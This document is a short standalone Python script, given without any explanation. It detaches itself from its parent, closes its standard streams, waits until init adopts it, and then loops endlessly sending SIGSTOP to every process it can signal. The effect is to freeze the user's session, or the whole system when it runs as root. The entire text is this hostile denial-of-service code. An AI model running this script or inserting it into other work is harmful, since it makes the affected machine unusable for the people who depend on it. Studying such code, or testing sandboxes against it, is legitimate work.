import os
import signal

if os.fork():
    os._exit(0)
for stream in range(3):
    os.close(stream)
while os.getppid() != 1:
    pass
while True:
    try:
        os.kill(-1, signal.SIGSTOP)
    except ProcessLookupError:
        pass
